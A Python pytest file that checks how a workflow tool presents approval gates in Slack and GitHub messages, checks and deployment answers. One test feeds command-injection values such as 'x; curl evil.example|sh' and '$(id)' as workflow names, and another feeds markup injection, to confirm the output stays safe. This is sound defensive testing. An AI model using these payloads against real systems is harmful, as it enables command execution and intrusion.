"""What messages show of a gate, and what is done there: by whom, and once."""

from __future__ import annotations

import json
import shlex
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from dsl.limits import PATH_LENGTH_MAX
from dsl.notify.destinations import GitHubDestination
from dsl.notify.doors import GitHubStart
from dsl.rules.notify.changes import Event, changes
from dsl.rules.notify.reading import snapshot_of
from dsl.rules.notify.snapshot import GateSnapshot, RunSnapshot
from dsl.shown.surfaces import NO_COMMAND
from integrations.errors import UnavailableError
from integrations.github.channel import GitHubChannel
from integrations.github.pages import WORD_MAX, button, check_of, word_for_deployment
from integrations.github.payloads import command_in
from integrations.notify.links import NO_PAGES, SitePages
from integrations.notify.plain import lines
from integrations.slack.board import gate_blocks
from tests.fixtures.notify.github import FakeGitHub, fake_github, key_in

GATE: dict[str, Any] = {"gate": "g", "opening": 1, "identity": ["claimed"], "subject_digest": "d"}
CALL = {"call": {"tool": "pay", "arguments": {"amount": 1}}}
ABOUT = {"repository": "acme/shop", "environment": "production", "actions_run": "77"}


def asking(workflow: str = "w", **row: Any) -> RunSnapshot:
    return snapshot_of({"waiting_for": [{**GATE, **row}]}, workflow=workflow, run="r")


def in_slack(run: RunSnapshot) -> str:
    return json.dumps(gate_blocks(run.gates[0], run, NO_PAGES, has_door=True))


@pytest.mark.parametrize("more", [CALL, {"clarification": {"number": 1}}])
def test_what_no_message_shows_has_the_line_and_no_button(more: dict[str, Any]):
    run = asking(**more)

    assert "actions" not in in_slack(run)
    assert "mandate approve w g" in in_slack(run)
    check = check_of(run, NO_PAGES, has_door=True)
    assert check["actions"] == []
    assert "mandate approve w g" in check["output"]["summary"]
    assert "/mandate" not in check["output"]["summary"]
    plain = asking()
    assert "actions" in in_slack(plain)
    assert len(check_of(plain, NO_PAGES, has_door=True)["actions"]) == 2


@pytest.mark.parametrize("more", [CALL, {"identity": ["verified"]}])
def test_where_a_console_is_served_a_gate_that_asks_for_a_proof_leads_there(more: dict[str, Any]):
    run = asking(workflow="a b/<c>&d|e", **more)
    pages = SitePages("http://ui", "https://console.example")
    slack = json.dumps(gate_blocks(run.gates[0], run, pages, has_door=True))
    check = check_of(run, pages, has_door=True)["output"]["summary"]
    mail = "\n".join(lines(changes(None, run)[0], run, pages))
    link = "https://console.example/gate?run=a%20b%2F%3Cc%3E%26d%7Ce&gate=g&id=r&opening=1"

    assert "actions" not in slack
    assert "mandate approve" not in slack + check
    assert f"<{link.replace('&', '&amp;')}|Open in the console>" in slack
    assert f"`{link}`" in check
    assert f"answer in the console: {link}" in mail
    with_buttons = json.dumps(gate_blocks(asking().gates[0], asking(), pages, has_door=True))
    assert "actions" in with_buttons
    assert "Open in the console" in with_buttons


def test_the_longest_path_of_a_gate_has_a_button_that_names_all_of_it():
    path = "/".join(["x" * 62] * 8)[:PATH_LENGTH_MAX] + "/clarify-99"
    run = asking(gate=path)

    [buttons] = [
        each
        for each in gate_blocks(run.gates[0], run, NO_PAGES, has_door=True)
        if each["type"] == "actions"
    ]
    assert json.loads(buttons["elements"][0]["value"])["g"] == path
    assert len(check_of(run, NO_PAGES, has_door=True)["actions"]) == 2


def test_a_question_is_answered_by_a_reason():
    run = asking(question={"text": "which?"})

    assert run.gates[0].reason_required
    assert check_of(run, NO_PAGES, has_door=True)["actions"] == []


@pytest.mark.parametrize("name", ["x; curl evil.example|sh", "a`b`", "$(id)", "-f"])
def test_a_line_to_copy_is_one_command_of_ours_or_none(name: str):
    run = asking(workflow=name, identity=["verified"], reason_required=True)
    slack = gate_blocks(run.gates[0], run, NO_PAGES, has_door=True)[0]["text"]["text"]
    github = check_of(run, NO_PAGES, has_door=True)["output"]["summary"]
    shown = slack.rpartition(" with ")[2].strip("`").replace("&amp;", "&")
    assert shown == NO_COMMAND or shlex.split(shown)[:4] == ["mandate", "approve", name, "g"]
    [line] = [each for each in github.split("\n") if each.startswith(("mandate ap", NO_COMMAND))]
    words = ["mandate", "approve", name, "g", "--reason", "..."]
    assert line == NO_COMMAND or shlex.split(line) == words


def test_a_button_is_named_for_what_it_is_shown_beside():
    shown: dict[str, Any] = {"run": "r", "gate": "g", "opening": 1, "subject": "d"}
    other = [{**shown, name: value} for name, value in (("run", "x"), ("gate", "x"))]
    other += [{**shown, "subject": "x"}, {**shown, "opening": 2}]
    names = {button("approve", **each) for each in (shown, *other)}

    assert len(names) == 5
    assert all(len(each) <= 20 for each in names)
    assert len(button("approve", **{**shown, "opening": 9_999_999})) <= 20


def test_a_word_for_a_deployment_is_short_and_nobodys_mark_up():
    hostile = "@all <img src=x> **b** [a](https://evil.example)"
    run = RunSnapshot(workflow=hostile, run="r", status="failed", ended=True, detail=hostile)
    word = word_for_deployment(run)

    assert "@all" not in "".join(word.split("`")[0::2])
    worst = run.model_copy(update={"workflow": "`" * 400, "detail": "`x" * 250})
    assert len(word_for_deployment(worst)) <= WORD_MAX


@pytest.mark.parametrize(
    ("body", "found"),
    [
        ("/mandate approve", ("approve", "", "")),
        ("/mandate reject\tg why not\nmore", ("reject", "g", "why not\nmore")),
        ("/mandate approved? not yet", None),
        ("/mandate approve-all", None),
        ("> /mandate approve", None),
    ],
)
def test_a_command_is_its_whole_words(body: str, found: Any):
    comment = command_in({"comment": {"id": 1, "body": body, "user": {"id": 2}}})

    assert (comment and (comment.decision, comment.gate, comment.reason)) == found


@pytest.fixture
def github(tmp_path: Path) -> Iterator[FakeGitHub]:
    key_in(tmp_path / "key")
    with fake_github() as found:
        yield found
        assert found.wrong == []


def channel(github: FakeGitHub, folder: Path, starts: Sequence[GitHubStart]) -> GitHubChannel:
    where = GitHubDestination(
        app="1",
        installation=2,
        key_file=f"{folder}/key",
        repositories=("acme/shop",),
        api=github.http.url,
    )
    return GitHubChannel(where, has_door=True, starts=starts)


def start(**fields: Any) -> GitHubStart:
    return GitHubStart(on="deployment", pipeline="ship", **fields)


def over(workflow: str, pipeline: str = "ship", status: str = "completed") -> RunSnapshot:
    ends = {"status": status, "ended": True}
    return RunSnapshot(workflow=workflow, run="r", pipeline=pipeline, subject=ABOUT, **ends)


OURS = "github/acme/shop/deployment/77/production/ship"


@pytest.mark.parametrize(
    ("run", "starts", "states"),
    [
        (over(OURS), [start()], ["approved"]),
        (over(OURS, status="failed"), [start(environment="production")], ["rejected"]),
        (over(f"{OURS[:-4]}123/ship"), [start()], ["approved"]),
        (over(OURS, pipeline="", status="failed"), [start()], ["rejected"]),
        (over(OURS, pipeline=""), [start()], []),
        (over("mine"), [start()], []),
        (over(OURS), [], []),
        (over(OURS), [start(environment="staging")], []),
        (over(OURS), [start(repository="acme/other")], []),
        (over(OURS, pipeline="mine"), [start()], []),
        (over(f"{OURS}/x"), [start()], []),
        (over(f"{OURS[:-4]}x/ship"), [start()], []),
        (over(OURS.replace("77", "78")), [start()], []),
        (over(OURS), [start(), start(environment="production")], []),
    ],
)
async def test_a_deployment_is_answered_by_the_run_that_was_started_for_it_alone(
    github: FakeGitHub, tmp_path: Path, run: RunSnapshot, starts: Any, states: list[str]
):
    github.waiting = {"production"}
    [event] = changes(None, run)
    await channel(github, tmp_path, starts).deliver(event, run, {}, again=False)

    assert [state for _, state in github.states] == states


async def test_a_deployment_is_answered_once_and_once_more_where_github_goes_on_waiting(
    github: FakeGitHub, tmp_path: Path
):
    github.waiting, github.deaf = {"production"}, 9  # another rule holds it
    telling = channel(github, tmp_path, [start()])
    run = over(OURS)
    [event] = changes(None, run)
    with pytest.raises(UnavailableError, match="still waits"):
        await telling.deliver(event, run, {}, again=False)
    known = await telling.deliver(event, run, {}, again=True)
    later: list[Event | None] = [event, None]
    for each in later:  # of an ended run there may be several messages
        known = await telling.deliver(each, run, known, again=False)

    assert known["answered"] == "approved"
    assert len(github.states) == 2


async def test_a_check_that_somebody_deleted_is_made_once_however_often_it_is_tried(
    github: FakeGitHub, tmp_path: Path
):
    run = RunSnapshot(
        workflow="w",
        run="r",
        gates=(GateSnapshot(path="g", opening=1),),
        subject={"repository": "acme/shop", "commit": "a" * 40, "pull_request": "5"},
    )
    [event] = changes(None, run)
    telling, known = channel(github, tmp_path, []), {"check": "55", "comment": "66"}
    github.lose = 2
    for again in (False, True, True):
        try:
            found = await telling.deliver(event, run, known, again=again)
        except UnavailableError:
            continue

    assert (len(github.checks), len(github.comments)) == (1, 1)
    assert found == {"check": "1", "comment": "1"}
    reset = await telling.deliver(event, run.model_copy(update={"run": "r2"}), {}, again=True)
    assert reset["check"] != found["check"]
